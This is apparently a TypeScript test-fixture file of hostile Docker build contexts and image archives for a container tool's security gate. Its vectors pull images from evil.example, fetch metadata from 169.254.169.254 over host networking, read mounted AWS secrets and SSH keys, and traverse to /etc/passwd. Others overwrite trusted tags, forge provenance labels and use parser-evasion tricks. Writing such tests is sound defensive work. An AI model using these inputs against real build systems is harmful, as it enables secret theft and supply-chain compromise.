/**
 * Archives in the hands of an attacker: contexts of builds, and images to be loaded.
 *
 * @module
 */

import { type Hostile, rows, type Vector } from "./case.ts";

const encoder = new TextEncoder();

/** A tar of files, and of symbolic links where the text begins with `-> `. */
export function tarOf(files: readonly (readonly [name: string, text: string])[]): Uint8Array<ArrayBuffer> {
  const blocks = files.flatMap(([name, text]) => {
    const link = /^-> (.*)$/.exec(text)?.[1];
    const body = encoder.encode(link === undefined ? text : "");
    const head = new Uint8Array(512);
    const put = (at: number, value: string) => head.set(encoder.encode(value), at);
    const octal = (value: number, length: number) => value.toString(8).padStart(length - 1, "0") + "\0";
    put(0, name);
    put(100, octal(0o644, 8));
    put(108, octal(0, 8));
    put(116, octal(0, 8));
    put(124, octal(body.length, 12));
    put(136, octal(0, 12));
    put(148, "        ");
    put(156, link === undefined ? "0" : "2");
    put(157, link ?? "");
    put(257, "ustar\0" + "00");
    put(148, octal(head.reduce((sum, byte) => sum + byte, 0), 7) + " ");
    const padded = new Uint8Array(Math.ceil(body.length / 512) * 512);
    padded.set(body);
    return [head, padded];
  });
  const whole = new Uint8Array(blocks.reduce((sum, block) => sum + block.length, 1024));
  let at = 0;
  for (const block of blocks) {
    whole.set(block, at);
    at += block.length;
  }
  return whole;
}

const dockerfiles: readonly Vector[] = [
  ["from-address", "FROM 10.0.0.1/x", "connects to an address"],
  ["from-port", "FROM ghcr.io:8443/x", "connects to a port"],
  ["from-other", "FROM evil.example/x", "a registry that is not granted"],
  ["from-arg", "ARG BASE=evil.example/x\nFROM $BASE", "the same by an argument"],
  ["from-arg-braces", "ARG BASE=evil.example/x\nFROM ${BASE}", "the same by an argument"],
  ["from-arg-default", "ARG BASE\nFROM ${BASE:-evil.example/x}", "the same by the default of an argument"],
  ["from-arg-plus", "ARG A=1\nFROM busybox${A:+.evil.example/x}", "the same by an alternative"],
  ["from-arg-nested", "ARG H=evil.example\nARG BASE=${H}/x\nFROM $BASE", "the same by two arguments"],
  ["from-lower", "from evil.example/x", "small letters"],
  ["from-second", "FROM busybox\nFROM evil.example/x", "the second stage"],
  ["from-continued", "FROM \\\nevil.example/x", "on the next line"],
  ["from-continued-word", "FR\\\nOM evil.example/x", "in the middle of a word"],
  ["from-comment-between", "FROM \\\n# busybox\nevil.example/x", "behind a comment in the middle"],
  ["from-escape", "# escape=`\nFROM `\nevil.example/x", "another character that continues lines"],
  ["from-bom", "\ufeffFROM evil.example/x", "behind a mark"],
  ["from-tab", "FROM\tevil.example/x", "a tab between"],
  ["from-platform", "FROM --platform=linux/amd64 evil.example/x AS x", "behind a flag"],
  ["from-stage-shadow", "FROM busybox AS a\nFROM A.evil.example/x", "a name that begins like a stage"],
  ["from-carriage", "FROM busybox\rFROM evil.example/x", "a line that ends in another way"],
  ["from-separator", "FROM busybox\u2028FROM evil.example/x", "a line that ends in another way"],
  ["syntax", "# syntax=evil.example/frontend\nFROM busybox", "another builder"],
  ["syntax-docker", "# syntax=docker/dockerfile-evil\nFROM busybox", "another builder"],
  ["syntax-upper", "# SYNTAX = evil.example/frontend\nFROM busybox", "another builder"],
  ["syntax-second", "# escape=\\\n# syntax=evil.example/frontend\nFROM busybox", "another builder on the second line"],
  ["syntax-slashes", "// syntax=evil.example/frontend\nFROM busybox", "another builder in the comment of another language"],
  ["syntax-json", '{"syntax":"evil.example/frontend"}\nFROM busybox', "another builder in JSON"],
  ["syntax-shebang", "#!/usr/bin/env x\n# syntax=evil.example/frontend\nFROM busybox", "another builder below a first line"],
  ["add-url", "FROM busybox\nADD http://10.0.0.1/x /x", "fetches a URL"],
  ["add-https", "FROM busybox\nADD https://evil.example/x /x", "fetches a URL"],
  ["add-git", "FROM busybox\nADD git@github.com:a/b.git /x", "fetches a repository"],
  ["add-git-host", "FROM busybox\nADD github.com/a/b /x", "fetches a repository"],
  ["add-json", 'FROM busybox\nADD ["http://10.0.0.1/x", "/x"]', "fetches a URL in the list form"],
  ["add-arg", "FROM busybox\nARG U=http://10.0.0.1/x\nADD $U /x", "fetches a URL by an argument"],
  ["add-env", "FROM busybox\nENV U=http://10.0.0.1/x\nADD ${U} /x", "fetches a URL by the environment"],
  ["add-continued", "FROM busybox\nADD \\\nhttp://10.0.0.1/x /x", "on the next line"],
  ["add-upper", "FROM busybox\nADD HTTP://10.0.0.1/x /x", "another spelling"],
  ["add-onbuild", "FROM busybox\nONBUILD ADD http://10.0.0.1/x /x", "in builds of others"],
  ["copy-from", "FROM busybox\nCOPY --from=evil.example/x / /x", "a registry that is not granted"],
  ["copy-from-arg", "ARG X=evil.example/x\nFROM busybox\nARG X\nCOPY --from=$X / /x", "the same by an argument"],
  ["copy-from-address", "FROM busybox\nCOPY --from=10.0.0.1:5000/x / /x", "connects to an address"],
  ["run-host", "FROM busybox\nRUN --network=host wget 169.254.169.254", "the host's network"],
  ["run-insecure", "FROM busybox\nRUN --security=insecure mount /dev/sda /x", "all rights"],
  ["run-mount-from", "FROM busybox\nRUN --mount=type=bind,from=evil.example/x,target=/x true", "a registry that is not granted"],
  ["run-mount-cache", "FROM busybox\nRUN --mount=type=cache,id=shared,target=/x true", "a cache of other builds"],
  ["run-mount-secret", "FROM busybox\nRUN --mount=type=secret,id=aws cat /run/secrets/aws", "secrets of the client"],
  ["run-mount-ssh", "FROM busybox\nRUN --mount=type=ssh ssh-add -l", "keys of the client"],
  ["run-device", "FROM busybox\nRUN --device=nvidia.com/gpu=all true", "devices"],
  ["run-mount-second", "FROM busybox\nRUN --mount=type=tmpfs,target=/t --mount=type=cache,target=/x true", "behind a good one"],
  ["run-flag-continued", "FROM busybox\nRUN --network=\\\nhost true", "in the middle of a flag"],
  ["from-absent", "FROM absent:1", "is pulled while it builds, with what it brings"],
  ["from-absent-second", "FROM busybox\nFROM absent:1", "the second stage"],
  ["from-other-platform", "FROM --platform=linux/arm64 busybox", "is pulled while it builds"],
  ["from-id", "FROM 111100000000", "is a name to one builder and an id to another"],
  ["from-onbuild", "FROM fetching:1", "an image that fetches a URL by ONBUILD"],
  ["from-onbuild-second", "FROM busybox AS a\nFROM fetching:1", "the second stage"],
  ["from-onbuild-arg", "ARG B=fetching:1\nFROM $B", "the same by an argument"],
  ["from-onbuild-label", "FROM labelling:1", "an image that sets a label by ONBUILD", "R7"],
  ["onbuild-run", "FROM busybox\nONBUILD RUN --network=host true", "in builds of others"],
  ["label", "FROM busybox\nLABEL traefik.enable=true", "a label that a proxy obeys", "R7"],
  ["label-managed", "FROM busybox\nLABEL dockwire.mcp.managed=x", "forged provenance", "R7"],
  ["label-quoted", 'FROM busybox\nLABEL "dockwire.mcp.managed"="x"', "in quotes", ["R7", "R9"]],
  ["label-half-quoted", 'FROM busybox\nLABEL dockwire."mcp.managed"=x', "half in quotes", ["R7", "R9"]],
  ["label-escaped", "FROM busybox\nLABEL dockwire\\.mcp.managed=x", "escaped", ["R7", "R9"]],
  ["label-arg", "FROM busybox\nARG K=dockwire.mcp.managed\nLABEL $K=x", "by an argument", ["R7", "R9"]],
  ["label-second", "FROM busybox\nLABEL a=b \\\n ofelia.job=x", "on the second line", "R7"],
  ["label-old", "FROM busybox\nLABEL traefik.enable true", "the old form", "R7"],
  ["label-lower", "FROM busybox\nlabel Traefik.Enable=true", "another spelling", "R7"],
  ["label-onbuild", "FROM busybox\nONBUILD LABEL traefik.enable=true", "in builds of others", ["R7", "R9"]],
  ["label-heredoc", "FROM busybox\nRUN <<A cat <<B\nA\nLABEL a=b\nB\nLABEL traefik.enable=true", "behind texts in the file", ["R7", "R9"]],
  ["heredoc-hides", "FROM busybox\nRUN <<EOF\nFROM evil.example/x\nEOF", "is a stage to a builder that knows no texts in the file"],
  ["volume-bind", "FROM busybox\nVOLUME /:/host", "Podman binds it"],
  ["volume-json", 'FROM busybox\nVOLUME ["/:/host"]', "Podman binds it"],
  ["unknown", "FROM busybox\nINCLUDE /etc/passwd", "no instruction"],
  ["nothing", "", "nothing to judge"],
  ["no-from", "RUN true", "no stage"],
];

const context = (text: string) => ({ t: "mine/app:2", body: tarOf([["Dockerfile", text]]) });

const builds: Hostile[] = [
  ...rows("dockerfile", "ImageBuild", (text) => context(text as string), "R9", dockerfiles),
  ...rows("build.context", "ImageBuild", (value) => ({ t: "mine/app:2", ...value as object }), "R9", [
    ["twice", { body: tarOf([["Dockerfile", "FROM busybox"], ["Dockerfile", "FROM evil.example/x"]]) }, "the last one counts"],
    ["twice-dot", { body: tarOf([["Dockerfile", "FROM busybox"], ["./Dockerfile", "FROM evil.example/x"]]) }, "the last one counts"],
    ["link", { body: tarOf([["Dockerfile", "-> other"], ["other", "FROM evil.example/x"]]) }, "a link"],
    ["folder-link", {
      dockerfile: "d/Dockerfile",
      body: tarOf([["d", "-> e"], ["d/Dockerfile", "FROM busybox"], ["e/Dockerfile", "FROM evil.example/x"]]),
    }, "a link above it"],
    ["lower", { body: tarOf([["dockerfile", "FROM evil.example/x"]]) }, "the engine takes small letters where there is no other"],
    ["both", { body: tarOf([["Dockerfile", "FROM busybox"], ["dockerfile", "FROM evil.example/x"]]) }, "two spellings"],
    [
      "named",
      { dockerfile: "evil/Dockerfile", body: tarOf([["Dockerfile", "FROM busybox"], ["evil/Dockerfile", "FROM evil.example/x"]]) },
      "another file",
    ],
    ["missing", { dockerfile: "none", body: tarOf([["Dockerfile", "FROM busybox"]]) }, "no such file"],
    ["outside", { dockerfile: "../../etc/passwd", body: tarOf([["Dockerfile", "FROM busybox"]]) }, "outside the context", ["R9", "R2"]],
    ["podman-list", { dockerfile: '["/etc/passwd"]', body: tarOf([["Dockerfile", "FROM busybox"]]) }, "Podman: several files", [
      "R9",
      "R2",
    ]],
    [
      "podman-in",
      { dockerfile: "Containerfile.in", body: tarOf([["Containerfile.in", "FROM busybox"]]) },
      "Podman: a preprocessor reads it",
      ["R9", "R2"],
    ],
    [
      "args",
      { buildargs: { BASE: "evil.example/x" }, body: tarOf([["Dockerfile", "ARG BASE=busybox\nFROM $BASE"]]) },
      "an argument of the request",
    ],
    [
      "args-syntax",
      { buildargs: { BUILDKIT_SYNTAX: "evil.example/frontend" }, body: tarOf([["Dockerfile", "FROM busybox"]]) },
      "another builder by an argument",
    ],
    [
      "args-context",
      { buildargs: { BUILDKIT_CONTEXT_KEEP_GIT_DIR: "1" }, body: tarOf([["Dockerfile", "FROM busybox"]]) },
      "an argument of the builder's own",
    ],
    ["cachefrom", { cachefrom: ["evil.example/x"], body: tarOf([["Dockerfile", "FROM busybox"]]) }, "a registry that is not granted", [
      "R9",
      "R2",
    ]],
    ["latin", { body: tarOf([["Dockerfile", "FROM busybox"]]).map((byte, at) => at === 512 ? 0xff : byte) }, "no text"],
    ["gzip", { body: new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]) }, "cannot be looked into"],
    ["stream", { body: new Blob([tarOf([["Dockerfile", "FROM evil.example/x"]])]) }, "cannot be looked into"],
    ["over", { t: "busybox:latest", body: tarOf([["Dockerfile", "FROM busybox"]]) }, "a tag that is not ours is never moved", "R4"],
    [
      "over-second",
      { t: ["mine/app:9", "busybox"], body: tarOf([["Dockerfile", "FROM busybox"]]) },
      "a tag that is not ours is never moved",
      "R4",
    ],
    ["label", { labels: { "dockwire.mcp.managed": "x" }, body: tarOf([["Dockerfile", "FROM busybox"]]) }, "forged provenance", "R7"],
    ["id", { t: "111100000000", body: tarOf([["Dockerfile", "FROM busybox"]]) }, "a name that looks like an id", ["R5", "R2"]],
  ]),
];

/** The manifest of an archive of images. */
const manifest = (...tags: string[]): string => JSON.stringify([{ Config: "c.json", RepoTags: tags, Layers: [] }]);
const config = (labels: object): string =>
  JSON.stringify({ architecture: "amd64", os: "linux", config: { Labels: labels }, rootfs: { type: "layers", diff_ids: [] } });

const loads: Hostile[] = rows("load", "ImageLoad", (files) => ({ body: tarOf(files as [string, string][]) }), "R4", [
  ["over", [["manifest.json", manifest("busybox:latest")], ["c.json", config({})]], "a tag that is not ours is never moved"],
  ["over-second", [["manifest.json", manifest("new:1", "postgres:16")], ["c.json", config({})]], "behind a good one"],
  ["over-bare", [["manifest.json", manifest("busybox")], ["c.json", config({})]], "without its tag"],
  ["over-repositories", [["repositories", '{"busybox":{"latest":"x"}}']], "the old form"],
  ["both-forms", [["manifest.json", manifest("new:1")], ["repositories", '{"busybox":{"latest":"x"}}']], "the old form beside the new one"],
  ["over-index", [[
    "index.json",
    JSON.stringify({ manifests: [{ annotations: { "io.containerd.image.name": "docker.io/library/busybox:latest" } }] }),
  ]], "the form of OCI"],
  ["over-index-ref", [[
    "index.json",
    JSON.stringify({ manifests: [{ annotations: { "org.opencontainers.image.ref.name": "busybox:latest" } }] }),
  ]], "the form of OCI"],
  ["twice", [["manifest.json", manifest("new:1")], ["manifest.json", manifest("busybox:latest")]], "the last one counts"],
  ["twice-dot", [["manifest.json", manifest("new:1")], ["./manifest.json", manifest("busybox:latest")]], "the last one counts"],
  ["link", [["manifest.json", "-> other.json"], ["other.json", manifest("busybox:latest")]], "a link"],
  ["nothing", [["c.json", config({})]], "does not say its names"],
  ["id", [["manifest.json", manifest("111100000000:latest")], ["c.json", config({})]], "a name that looks like an id", ["R5", "R4"]],
  [
    "forged-label",
    [["manifest.json", manifest("new:1")], ["c.json", config({ "dockwire.mcp.managed": "test.copied" })]],
    "forged provenance: a container made of it has the label",
    ["R7"],
  ],
  [
    "traefik-label",
    [["manifest.json", manifest("new:1")], ["c.json", config({ "traefik.enable": "true" })]],
    "a label that a proxy obeys, in containers that others make",
    ["R7"],
  ],
]);

/** All of them. */
export const archives: readonly Hostile[] = [...builds, ...loads];

/** A context that builds. */
export const goodContext: Uint8Array = tarOf([
  [
    "Dockerfile",
    "# syntax=docker/dockerfile:1\nARG VERSION=22\nFROM node:${VERSION} AS build\nWORKDIR /app\nCOPY . .\nRUN npm ci\nFROM nginx:1.27\nCOPY --from=build /app/dist /usr/share/nginx/html\nLABEL app=shop\nEXPOSE 80\n",
  ],
  ["package.json", "{}"],
]);
